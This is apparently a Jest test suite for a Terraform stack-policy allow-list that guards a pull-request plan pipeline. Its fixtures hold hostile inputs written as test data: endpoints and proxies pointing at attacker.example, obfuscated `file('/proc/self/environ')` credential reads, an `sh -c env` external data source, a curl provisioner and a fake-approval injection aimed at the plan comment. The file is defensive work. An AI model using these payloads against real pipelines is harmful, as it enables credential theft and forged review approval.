// Enforces SECURITY.md C30 (the table "Enforcing tests" there lists this file).
/**
 * The stack policy is the allow-list a pull request's synthesized Terraform passes before the
 * plan job runs `terraform init` on it with the plan role. Each test below is an attack from
 * the review (issue 14, attack 2) or a pin that keeps the allow-list equal to what the
 * project's own stacks use.
 */
import { mkdtempSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { ALLOWED_FUNCTIONS, ALLOWED_PROVIDER_ARGUMENTS, MAX_RESOURCES_PER_STACK, stackPolicyViolations } from "../../pipeline/lib/stack-policy";
import { AWS_PROVIDER_VERSION, TERRAFORM_REQUIRED_VERSION } from "../../config/toolchain-versions";
import { parseTemplate } from "../../pipeline/lib/terraform-expressions";
import { planStacks } from "../../pipeline/plan-stacks";
import { readPlans } from "../../pipeline/lib/plan";
import { renderComment } from "../../pipeline/plan-comment";
import type { Exec } from "../../pipeline/lib/exec";
import { synthesize } from "../support/synth";
import { writeSynth } from "./synth-helper";

const real = synthesize();
const environments = real.config.environments;
const TENANT = "tenant-acme"; // production, us-east-1
const PLATFORM = "platform-production-us-east-1";
const aStack = (name = TENANT) => JSON.parse(real.texts[name]);
const violations = (stack: Record<string, any>, name = TENANT) => stackPolicyViolations(name, stack, environments);
const firstTagKey = (stack: Record<string, any>) => stack.provider.aws[0].default_tags[0].tags;

describe("stack policy: the project's own stacks", () => {
  it.each(Object.keys(real.stacks))("lets the synthesized stack %s through", (name) => {
    expect(stackPolicyViolations(name, real.stacks[name], environments)).toEqual([]);
  });

  it("allows exactly the provider arguments the synthesized stacks use (StackSettings)", () => {
    const used = new Set(Object.values(real.stacks).flatMap((s) => s.provider.aws.flatMap((p: object) => Object.keys(p))));
    expect([...ALLOWED_PROVIDER_ARGUMENTS].sort()).toEqual([...used].sort());
  });

  it("allows every function the synthesized stacks call, and none that reads files, paths or the environment", () => {
    const used = new Set(Object.values(real.texts).flatMap((t) => [...t.matchAll(/"((?:[^"\\]|\\.)*)"/g)].flatMap((m) => parseTemplate(JSON.parse(`"${m[1]}"`)).functions)));
    // Five since subnets name literal zone ids (#26): no element() over data.aws_availability_zones.
    expect(used.size).toBeGreaterThanOrEqual(5);
    expect([...used].filter((f) => !ALLOWED_FUNCTIONS.has(f))).toEqual([]);
    // jsonencode/jsondecode are the JSON policy and platform-contract functions cdktf's Fn emits.
    expect([...ALLOWED_FUNCTIONS].sort()).toEqual(["element", "join", "jsondecode", "jsonencode", "matchkeys", "split", "tolist"]);
  });
});

describe("stack policy: providers", () => {
  it("refuses a provider other than hashicorp/aws", () => {
    const stack = aStack();
    stack.terraform.required_providers.evil = { source: "attacker/evil", version: "1.0.0" };
    expect(violations(stack)).toEqual(['provider "evil" (source "attacker/evil") is not allowed: only hashicorp/aws']);
  });

  it("refuses the aws name bound to another source", () => {
    const stack = aStack();
    stack.terraform.required_providers.aws.source = "attacker/aws";
    expect(violations(stack)).toEqual(['provider "aws" (source "attacker/aws") is not allowed: only hashicorp/aws']);
  });

  // Each of these sends the plan role's signed requests elsewhere, trusts another CA, reads
  // credentials or config files from the runner, or switches identity.
  it.each([
    ["endpoints", [{ sts: "https://attacker.example", s3: "https://attacker.example" }]],
    ["https_proxy", "http://attacker.example:3128"],
    ["http_proxy", "http://attacker.example:3128"],
    ["insecure", true],
    ["custom_ca_bundle", "/tmp/ca.pem"],
    ["shared_config_files", ["/proc/self/environ"]],
    ["shared_credentials_files", ["/home/runner/.aws/credentials"]],
    ["profile", "other"],
    ["access_key", "AKIAEXAMPLE"],
    ["assume_role", [{ role_arn: "arn:aws:iam::999999999999:role/x" }]],
    ["assume_role_with_web_identity", [{ role_arn: "arn:aws:iam::999999999999:role/x", web_identity_token_file: "/tmp/t" }]],
    ["sts_region", "us-west-2"],
    ["skip_credentials_validation", true],
    ["alias", "other"],
  ])("refuses the provider argument %s", (arg, value) => {
    const stack = aStack();
    stack.provider.aws[0][arg] = value;
    expect(violations(stack)).toEqual([`provider aws: argument ${arg} is not allowed (allowed: region, allowed_account_ids, default_tags)`]);
  });

  it("refuses a second provider block and another account", () => {
    const stack = aStack();
    stack.provider.aws.push({ region: "us-east-1" });
    expect(violations(stack)).toContain("provider aws: exactly one provider block is allowed");
    const other = aStack();
    other.provider.aws[0].allowed_account_ids = ["999999999999"];
    expect(violations(other)).toEqual(['provider aws: allowed_account_ids must be ["111111111111"], got ["999999999999"]']);
  });

  it("refuses a tenant in an environment or region base's cdktf.json does not declare", () => {
    const stack = aStack();
    firstTagKey(stack).Environment = "attacker";
    expect(violations(stack)).toEqual(['provider aws: default_tags Environment must be an environment of base\'s cdktf.json (production, staging), got "attacker"']);
    const region = aStack();
    region.provider.aws[0].region = "eu-west-1";
    expect(violations(region)).toEqual(['provider aws: region must be one of environment production\'s regions (us-east-1, us-west-2), got "eu-west-1"']);
  });
});

describe("stack policy: backend", () => {
  const expectedBackend = () => aStack().terraform.backend;

  it.each([
    ["bucket", "attacker-bucket"],
    ["key", "tenants/globex.tfstate"], // another tenant's state object
    ["key", "platform/production/us-east-1.tfstate"],
    ["region", "eu-west-1"],
    ["kms_key_id", "arn:aws:kms:us-east-1:999999999999:key/x"],
    ["dynamodb_table", "other"],
    ["encrypt", false],
    ["use_lockfile", false],
    ["endpoint", "https://attacker.example"],
    ["role_arn", "arn:aws:iam::111111111111:role/other"],
  ])("refuses the backend with %s = %j", (arg, value) => {
    const stack = aStack();
    stack.terraform.backend.s3[arg] = value;
    const [problem, ...rest] = violations(stack);
    expect(rest).toEqual([]);
    expect(problem).toMatch(/^terraform\.backend must be \{"s3":\{.*\}\} \(base's cdktf\.json for tenant-acme\), got /);
    expect(problem).toContain(JSON.stringify(value));
  });

  it("refuses a platform stack's backend pointing at a tenant's state, and another backend type", () => {
    const stack = aStack(PLATFORM);
    stack.terraform.backend.s3.key = "tenants/acme.tfstate";
    expect(violations(stack, PLATFORM)).toHaveLength(1);
    const http = aStack();
    http.terraform.backend = { http: { address: "https://attacker.example" } };
    expect(violations(http)).toEqual([expect.stringContaining('got {"http":{"address":"https://attacker.example"}}')]);
    expect(JSON.stringify(expectedBackend())).toContain('"key":"tenants/acme.tfstate"');
  });

  it("refuses a stack name that is neither a platform of base's cdktf.json nor a tenant", () => {
    expect(violations(aStack(), "platform-production-eu-west-1")).toContain("stack name platform-production-eu-west-1 is neither platform-<env>-<region> of base's cdktf.json nor tenant-<id>");
  });
});

describe("stack policy: blocks", () => {
  it.each(["output", "module", "check", "import", "moved", "removed", "locals", "variable", "ephemeral"])("refuses a top-level %s block", (block) => {
    const stack = aStack();
    stack[block] = { x: { value: "1" } };
    expect(violations(stack)).toEqual([`top-level "${block}" blocks are not allowed (only terraform, provider, resource and data)`]);
  });

  it("refuses terraform settings other than providers, version and backend", () => {
    const stack = aStack();
    stack.terraform.cloud = { organization: "attacker" };
    expect(violations(stack)).toEqual(["terraform.cloud is not allowed (only required_providers, required_version and backend)"]);
  });

  it("refuses non-AWS resources, provisioners and connections", () => {
    const stack = aStack();
    stack.resource.terraform_data = { x: {} };
    const [name] = Object.keys(stack.resource.aws_s3_bucket);
    stack.resource.aws_s3_bucket[name].provisioner = [{ "local-exec": { command: "curl ..." } }];
    stack.resource.aws_s3_bucket[name].connection = [{ host: "attacker.example" }];
    expect(violations(stack).sort()).toEqual([
      `aws_s3_bucket.${name} has a connection block`,
      `aws_s3_bucket.${name} has a provisioner block`,
      "resource type terraform_data is not allowed: only aws_* types",
    ]);
  });
});

describe("stack policy: versions, meta-arguments and size (issue 24, item 1)", () => {
  const firstBucket = (stack: Record<string, any>) => Object.keys(stack.resource.aws_s3_bucket)[0];

  it("pins the AWS provider and Terraform versions to config/toolchain-versions.ts", () => {
    const stack = aStack();
    expect(stack.terraform.required_providers.aws.version).toBe(AWS_PROVIDER_VERSION);
    stack.terraform.required_providers.aws.version = ">= 1.0";
    stack.terraform.required_version = ">= 0.12";
    expect(violations(stack)).toEqual([
      `terraform.required_providers.aws must be {source, version: "${AWS_PROVIDER_VERSION}"} (config/toolchain-versions.ts), got {"source":"aws","version":">= 1.0"}`,
      `terraform.required_version must be "${TERRAFORM_REQUIRED_VERSION}" (config/toolchain-versions.ts), got ">= 0.12"`,
    ]);
  });

  it.each([
    ["count", 100000000, "argument"],
    ["for_each", { "a` **APPROVED** @acme/security-team `": "x" }, "argument"],
    ["provider", "aws.other", "argument"],
  ])("refuses %s on a resource (the stacks use none)", (key, value, what) => {
    const stack = aStack();
    const name = firstBucket(stack);
    stack.resource.aws_s3_bucket[name][key] = value;
    expect(violations(stack)).toEqual([`aws_s3_bucket.${name} has a ${key} ${what}`]);
  });

  it("refuses dynamic blocks at any depth, and lifecycle arguments the stacks do not use", () => {
    const stack = aStack();
    const name = firstBucket(stack);
    stack.resource.aws_s3_bucket[name].dynamic = { grant: { for_each: "${[1]}", content: {} } };
    stack.resource.aws_s3_bucket[name].lifecycle = { replace_triggered_by: ["aws_s3_bucket.x"] };
    expect(violations(stack)).toEqual([
      `aws_s3_bucket.${name}: dynamic block at top level is not allowed`,
      `aws_s3_bucket.${name}: lifecycle.replace_triggered_by is not allowed (allowed: prevent_destroy, create_before_destroy, postcondition, precondition, ignore_changes)`,
    ]);
  });

  it(`caps a stack at ${MAX_RESOURCES_PER_STACK} resources and data sources; the real stacks use under half`, () => {
    const sizes = Object.values(real.stacks).map((s) => Object.values<object>(s.resource ?? {}).concat(Object.values<object>(s.data ?? {})).reduce((n, byName) => n + Object.keys(byName).length, 0));
    expect(Math.max(...sizes)).toBeLessThan(MAX_RESOURCES_PER_STACK / 2);
    const stack = aStack();
    for (let i = 0; i < MAX_RESOURCES_PER_STACK; i++) stack.resource.aws_sns_topic = { ...stack.resource.aws_sns_topic, [`t${i}`]: { name: `t${i}` } };
    expect(violations(stack)).toEqual([expect.stringMatching(new RegExp(`^\\d+ resources and data sources; at most ${MAX_RESOURCES_PER_STACK} per stack$`))]);
  });
});

describe("stack policy: data sources", () => {
  it.each([
    ["external", { program: ["sh", "-c", "env"] }],
    ["terraform_remote_state", { backend: "s3", config: { bucket: "example-openclaw-tfstate-production", key: "tenants/globex.tfstate" } }],
    ["aws_s3_object", { bucket: "openclaw-globex-data", key: "export.json" }],
    ["aws_secretsmanager_secret_version", { secret_id: "/openclaw/production/globex/slack" }],
    ["http", { url: "https://attacker.example" }],
  ])("refuses a %s data source", (type, config) => {
    const stack = aStack();
    stack.data[type] = { x: config };
    expect(violations(stack)).toEqual([`data source type ${type} is not allowed (allowed: aws_availability_zones, aws_vpc_endpoint_service, aws_ssm_parameter)`]);
  });

  it.each([
    ["another region's platform", "/openclaw/production/us-west-2/platform/vpc-id"],
    ["another environment's platform", "/openclaw/staging/us-east-1/platform/vpc-id"],
    ["a tenant secret path", "/openclaw/production/globex/slack"],
    ["a path escaping the prefix", "/openclaw/production/us-east-1/platform/../../globex/x"],
    ["a name built by an expression", "/openclaw/production/us-east-1/platform/${aws_s3_bucket.x.id}"],
  ])("refuses an SSM parameter outside the stack's platform contract prefix: %s", (_what, name) => {
    const stack = aStack();
    stack.data.aws_ssm_parameter.evil = { name };
    expect(violations(stack)).toContainEqual(
      `data source aws_ssm_parameter.evil: name must be a literal under /openclaw/production/us-east-1/platform/ (got ${JSON.stringify(name)})`,
    );
  });

  it("allows an AWS endpoint service of the stack's own region by literal name only", () => {
    const platform = aStack(PLATFORM);
    platform.data.aws_vpc_endpoint_service = { ok: { service_name: "com.amazonaws.us-east-1.ecr.api", service_type: "Interface" } };
    expect(violations(platform, PLATFORM)).toEqual([]);
    platform.data.aws_vpc_endpoint_service = {
      region: { service_name: "com.amazonaws.us-west-2.ecr.api" },
      partner: { service_name: "com.amazonaws.vpce.us-east-1.vpce-svc-0123456789abcdef0", filter: [{ name: "owner", values: ["x"] }] },
    };
    expect(violations(platform, PLATFORM)).toEqual([
      'data source aws_vpc_endpoint_service.region: service_name must be a literal com.amazonaws.us-east-1.<service> (got "com.amazonaws.us-west-2.ecr.api")',
      "data source aws_vpc_endpoint_service.partner: only service_name and service_type are allowed (got filter)",
      'data source aws_vpc_endpoint_service.partner: service_name must be a literal com.amazonaws.us-east-1.<service> (got "com.amazonaws.vpce.us-east-1.vpce-svc-0123456789abcdef0")',
    ]);
  });

  it("refuses an SSM parameter read with decryption", () => {
    const stack = aStack();
    const [first] = Object.keys(stack.data.aws_ssm_parameter);
    stack.data.aws_ssm_parameter[first].with_decryption = true;
    expect(violations(stack)).toEqual([`data source aws_ssm_parameter.${first}: with_decryption must be false or absent (got true)`]);
  });
});

describe("stack policy: expressions", () => {
  const withTag = (value: string, key = "Leak") => {
    const stack = aStack();
    firstTagKey(stack)[key] = value;
    return violations(stack);
  };
  const allowed = "(allowed: join, element, split, jsonencode, jsondecode, matchkeys, tolist)";

  it("refuses file() reading the runner's environment into a tag the plan comment would show", () => {
    expect(withTag('${file("/proc/self/environ")}')).toEqual([`provider.aws[0].default_tags[0].tags.Leak: function file() is not allowed ${allowed}`]);
  });

  it.each(["templatefile", "filebase64", "filesha256", "fileset", "fileexists", "pathexpand", "abspath"])("refuses %s()", (fn) => {
    expect(withTag(`\${${fn}("/etc/passwd")}`)).toEqual([`provider.aws[0].default_tags[0].tags.Leak: function ${fn}() is not allowed ${allowed}`]);
  });

  it("finds calls in nested calls and object keys, and refuses the forms that hid them (directives, spaces, strip markers, namespaces)", () => {
    expect(withTag('${join(",", [element(file("/x"), 0)])}')).toEqual([expect.stringContaining("function file() is not allowed")]);
    expect(withTag("x", '${file("/x")}')).toEqual([expect.stringContaining("function file() is not allowed")]);
    for (const hidden of [
      '${join(",", ["a", "${file("/x")}"])}',
      '%{ if fileexists("/x") }yes%{ endif }',
      '${file ("/x")}',
      '${provider::aws::arn_parse("arn:aws:s3:::x")}',
      '${"\\"}${file("/x")}"}',
      '${1-file("/x")}',
      '${~ file("/x") ~}',
      '${core::file("/x")}',
    ]) {
      expect([hidden, withTag(hidden)]).toEqual([hidden, [expect.stringContaining("provider.aws[0].default_tags[0].tags.Leak: not a template this project's stacks emit: ")]]);
    }
  });

  // Issue 24, item 1: a quote inside an HCL comment threw the old scanner out of step, so the
  // file() call was never seen; Terraform honours the comments and reads the file (the same
  // strings are evaluated by real Terraform in test/pipeline/terraform-differential.test.ts).
  it.each([
    ["a block comment", '${/*"*/base64encode(file("/proc/self/environ"))/*"*/}'],
    ["a # comment", '${#"\nbase64encode(file("/proc/self/environ"))}'],
    ["a // comment", '${//"\nbase64encode(file("/proc/self/environ"))}'],
  ])("refuses the credential theft through %s in a tag", (_what, text) => {
    expect(withTag(text)).toEqual([expect.stringMatching(/^provider\.aws\[0\]\.default_tags\[0\]\.tags\.Leak: not a template this project's stacks emit: expected an expression/)]);
  });

  it("refuses the same string in a lifecycle precondition's error_message", () => {
    const stack = aStack();
    const [name] = Object.keys(stack.resource.aws_s3_bucket);
    stack.resource.aws_s3_bucket[name].lifecycle = { precondition: [{ condition: "${true}", error_message: '${/*"*/base64encode(file("/proc/self/environ"))/*"*/}' }] };
    expect(violations(stack)).toEqual([
      expect.stringContaining(`resource.aws_s3_bucket.${name}.lifecycle.precondition[0].condition: not a template`),
      expect.stringContaining(`resource.aws_s3_bucket.${name}.lifecycle.precondition[0].error_message: not a template`),
    ]);
  });

  it("refuses path.*, terraform.*, var.* and local.* references", () => {
    expect(withTag("${path.cwd}")).toEqual(["provider.aws[0].default_tags[0].tags.Leak: reference path.* is not allowed (only this stack's aws_* resources and data sources)"]);
    expect(withTag("${terraform.workspace}")).toEqual([expect.stringContaining("reference terraform.* is not allowed")]);
    expect(withTag("${var.x}-${local.y}")).toEqual([expect.stringContaining("reference var.*"), expect.stringContaining("reference local.*")]);
  });

  it("leaves escaped templates ($${, %%{) and plain text alone, and refuses an unterminated one", () => {
    expect(withTag('$${file("/x")} and %%{ if file("/x") } 50% {braces}')).toEqual([]);
    expect(withTag('${join(",", ["a"]')).toEqual([expect.stringMatching(/^provider\.aws\[0\]\.default_tags\[0\]\.tags\.Leak: not a template this project's stacks emit: expected "," or "\)" \(at offset 17: end of string\)$/)]);
  });
});

describe("plan-stacks with untrusted synth output", () => {
  beforeEach(() => jest.spyOn(process.stderr, "write").mockImplementation(() => true));
  afterEach(() => jest.restoreAllMocks());

  const run = async (edit: (stackDir: string) => void) => {
    const synthDir = writeSynth(mkdtempSync(join(tmpdir(), "policy-")), [{ name: "tenant-evil", environment: "production" }]);
    edit(join(synthDir, "stacks", "tenant-evil"));
    const calls: { args: string[]; files: string[] }[] = [];
    const exec: Exec = async (_cmd, args, options) => {
      calls.push({ args: [...args], files: readdirSync(options.cwd!).sort() });
      if (args[0] === "plan") writeFileSync(args.find((a) => a.startsWith("-out="))!.slice(5), "{}");
      return { code: 0, stdout: args[0] === "show" && args.includes("-json") ? '{"resource_changes":[]}' : "", stderr: "" };
    };
    const outDir = mkdtempSync(join(tmpdir(), "policy-out-"));
    const [result] = await planStacks({ synthDir, environments, stacks: ["tenant-evil"], outDir, parallelism: 1, detailedExitcode: false, lock: false, terraform: "terraform", exec });
    return { result, calls, outDir };
  };

  it("gives terraform a fresh directory holding only cdk.tf.json: an extra zz.tf.json with data \"external\" never reaches it", async () => {
    const { result, calls } = await run((dir) => {
      writeFileSync(join(dir, "zz.tf.json"), JSON.stringify({ data: { external: { x: { program: ["sh", "-c", "env"] } } } }));
      writeFileSync(join(dir, "evil.tf"), 'data "external" "x" { program = ["sh"] }');
    });
    expect(result.status).toBe("planned");
    expect(calls.map((c) => c.args[0])).toEqual(["init", "plan", "show", "show"]);
    expect(calls[0].files).toEqual(["cdk.tf.json"]);
  });

  it("keeps a refused stack away from terraform entirely and lists one reason per line in error.txt", async () => {
    const { result, calls, outDir } = await run((dir) => {
      const file = join(dir, "cdk.tf.json");
      const stack = JSON.parse(readFileSync(file, "utf8"));
      stack.provider.aws[0].endpoints = [{ sts: "https://attacker.example" }];
      stack.output = { leak: { value: '${file("/proc/self/environ")}' } };
      writeFileSync(file, JSON.stringify(stack));
    });
    expect(result.status).toBe("refused");
    expect(calls).toEqual([]);
    expect(readFileSync(join(outDir, "tenant-evil", "error.txt"), "utf8")).toBe(
      [
        "refused by the stack policy, not planned:",
        '- top-level "output" blocks are not allowed (only terraform, provider, resource and data)',
        "- provider aws: argument endpoints is not allowed (allowed: region, allowed_account_ids, default_tags)",
        "- output.leak.value: function file() is not allowed (allowed: join, element, split, jsonencode, jsondecode, matchkeys, tolist)",
        "",
      ].join("\n"),
    );
    // ... and the comment shows it as refused, not as an ordinary failure.
    const comment = renderComment(readPlans(outDir));
    expect(comment).toContain("1 refused");
    expect(comment).toContain("| `tenant-evil` | – | – | – | – | ⛔ refused by the stack policy |");
    expect(comment).toContain("**Refused by the stack policy (not planned):** `tenant-evil`");
  });
});

// Found by mutation testing (npm run test:mutation, #32): each test fails on a mutant of
// pipeline/lib/stack-policy.ts the tests above let through (named in the comment).
describe("stack policy: edges found by mutation testing", () => {
  const firstOf = (stack: Record<string, any>, kind: "data" | "resource", type: string) => Object.values<any>(stack[kind][type])[0];
  const prefix = "com.amazonaws.us-east-1.";

  it.each([
    ["a character before an allowed tail (mutant: no ^ anchor)", `${prefix}A/s3`],
    ["a character after an allowed head (mutant: no $ anchor)", `${prefix}s3/X`],
    ["a number (mutant: no type check, which would throw)", 42],
  ])("refuses an endpoint service name with %s", (_what, serviceName) => {
    const stack = aStack(PLATFORM);
    firstOf(stack, "data", "aws_vpc_endpoint_service").service_name = serviceName;
    expect(violations(stack, PLATFORM)).toEqual([expect.stringContaining(`service_name must be a literal ${prefix}<service> (got ${JSON.stringify(serviceName)})`)]);
  });

  it("names every extra endpoint-service argument, separated (mutant: the join separator)", () => {
    const stack = aStack(PLATFORM);
    Object.assign(firstOf(stack, "data", "aws_vpc_endpoint_service"), { filter: [], tags: {} });
    expect(violations(stack, PLATFORM)).toEqual([expect.stringContaining("only service_name and service_type are allowed (got filter, tags)")]);
  });

  it.each([
    ["a space inside (mutants: either anchor)", "/openclaw/production/us-east-1/platform/a b/contract"],
    ["a number (mutant: no type check)", 7],
  ])("refuses an SSM parameter name with %s", (_what, name) => {
    const stack = aStack();
    firstOf(stack, "data", "aws_ssm_parameter").name = name;
    expect(violations(stack)).toEqual([expect.stringContaining(`name must be a literal under /openclaw/production/us-east-1/platform/ (got ${JSON.stringify(name)})`)]);
  });

  it.each([
    ["no default_tags", (p: any) => delete p.default_tags],
    ["empty default_tags", (p: any) => (p.default_tags = [])],
    ["a default_tags block without tags", (p: any) => (p.default_tags = [{}])],
    ["an Environment tag that is an array (mutant: no string check; hasOwn would take ['production'])", (p: any) => (p.default_tags[0].tags.Environment = ["production"])],
    ["an Environment tag naming an Object property (mutant: no hasOwn)", (p: any) => (p.default_tags[0].tags.Environment = "toString")],
  ])("refuses a tenant stack with %s, naming the environments", (_what, change) => {
    const stack = aStack();
    change(stack.provider.aws[0]);
    expect(violations(stack)).toContainEqual(expect.stringMatching(/^provider aws: default_tags Environment must be an environment of base's cdktf.json \(production, staging\), got /));
  });

  it("refuses a tenant stack whose region is an array naming its region (mutant: no string check)", () => {
    const stack = aStack();
    stack.provider.aws[0].region = ["us-east-1"];
    expect(violations(stack)).toContainEqual(expect.stringMatching(/^provider aws: region must be one of environment production's regions/));
  });

  it("reports a stack without any provider block instead of throwing (mutants: ?. on provider)", () => {
    const stack = aStack();
    delete stack.provider;
    expect(violations(stack)).toEqual(expect.arrayContaining(["provider aws: exactly one provider block is allowed"]));
  });

  it("lets a platform stack through without default_tags (mutant: undefined default_tags taken for a bad block)", () => {
    const stack = aStack(PLATFORM);
    delete stack.provider.aws[0].default_tags;
    expect(violations(stack, PLATFORM)).toEqual([]);
  });

  it("lets a stack read the availability zones, the data source with nothing to check (mutant: a problem for it)", () => {
    const stack = aStack(PLATFORM);
    stack.data.aws_availability_zones = { zones: { state: "available" } };
    expect(violations(stack, PLATFORM)).toEqual([]);
  });

  it("refuses another provider block beside aws", () => {
    const stack = aStack();
    stack.provider.google = [{}];
    expect(violations(stack)).toEqual(['provider block "google" is not allowed']);
  });

  it.each([
    ["another key beside tags", [{ tags: { Environment: "production" }, extra: 1 }]],
    ["an object instead of a list", { tags: { Environment: "production" } }],
    ["a list holding a string", ["tags"]],
    ["a second block with another key (mutant: every instead of some)", [{ tags: { Environment: "production" } }, { extra: 1 }]],
  ])("refuses default_tags with %s", (_what, tagBlocks) => {
    const stack = aStack();
    stack.provider.aws[0].default_tags = tagBlocks;
    expect(violations(stack)).toContain("provider aws: default_tags may hold only tags");
  });

  it("refuses a platform stack whose provider names another region than its name", () => {
    const stack = aStack(PLATFORM);
    stack.provider.aws[0].region = "us-west-2";
    expect(violations(stack, PLATFORM)).toEqual(['provider aws: region must be us-east-1, got "us-west-2"']);
  });

  it("refuses hashicorp/aws under another name, as a bare string, or with another key", () => {
    const renamed = aStack();
    renamed.terraform.required_providers.awsx = { source: "hashicorp/aws", version: AWS_PROVIDER_VERSION };
    expect(violations(renamed)).toEqual(['provider "awsx" (source "hashicorp/aws") is not allowed: only hashicorp/aws']);
    const bare = aStack();
    bare.terraform.required_providers.aws = "hashicorp/aws";
    expect(violations(bare)).toEqual(['provider "aws" (source "hashicorp/aws") is not allowed: only hashicorp/aws']);
    const extra = aStack();
    extra.terraform.required_providers.aws.configuration_aliases = ["aws.x"];
    expect(violations(extra)).toEqual([expect.stringMatching(/^terraform.required_providers.aws must be \{source, version/)]);
  });

  it("refuses what is not a JSON object, and reads null blocks and resources as empty", () => {
    for (const notAnObject of [null, [], "x"]) expect(stackPolicyViolations(TENANT, notAnObject as never, environments)).toEqual(["cdk.tf.json must be a JSON object"]);
    const stack = aStack();
    stack.data = null;
    stack.resource.aws_s3_bucket = { nothing: null };
    expect(violations(stack)).toEqual([]);
  });

  it("accepts exactly MAX_RESOURCES_PER_STACK resources and data sources (mutant: >=)", () => {
    const stack = aStack();
    const count = Object.values<any>(stack.resource).reduce((n, byName) => n + Object.keys(byName).length, 0) + Object.values<any>(stack.data).reduce((n, byName) => n + Object.keys(byName).length, 0);
    stack.resource.aws_sns_topic_x = Object.fromEntries(Array.from({ length: MAX_RESOURCES_PER_STACK - count }, (_, i) => [`t${i}`, { name: `t${i}` }]));
    expect(violations(stack)).toEqual([]);
    stack.resource.aws_sns_topic_x.one_more = { name: "x" };
    expect(violations(stack)).toEqual([`${MAX_RESOURCES_PER_STACK + 1} resources and data sources; at most ${MAX_RESOURCES_PER_STACK} per stack`]);
  });

  it("names where a refused template stands: an object key, a list element (mutants: the paths)", () => {
    const stack = aStack();
    stack.resource.aws_s3_bucket.b = { tags: { '${file("/x")}': "v" }, list: ["a", '${file("/y")}'] };
    expect(violations(stack)).toEqual([
      'resource.aws_s3_bucket.b.tags (key): function file() is not allowed (allowed: join, element, split, jsonencode, jsondecode, matchkeys, tolist)',
      'resource.aws_s3_bucket.b.list[1]: function file() is not allowed (allowed: join, element, split, jsonencode, jsondecode, matchkeys, tolist)',
    ]);
  });

  it("finds dynamic blocks at their path, and not among tags, tags_all or cdktf's // metadata (mutants: those exclusions)", () => {
    const stack = aStack();
    stack.resource.aws_s3_bucket.b = { tags: { dynamic: "x" }, tags_all: { dynamic: "x" }, "//": { dynamic: {} }, rule: [{ nested: { dynamic: {} } }] };
    expect(violations(stack)).toEqual(["aws_s3_bucket.b: dynamic block at rule[0].nested is not allowed"]);
  });

  it("compares the backend whatever the order of its keys (mutant: keys unsorted)", () => {
    const stack = aStack();
    stack.terraform.backend.s3 = Object.fromEntries(Object.entries<any>(stack.terraform.backend.s3).reverse());
    expect(violations(stack)).toEqual([]);
  });
});
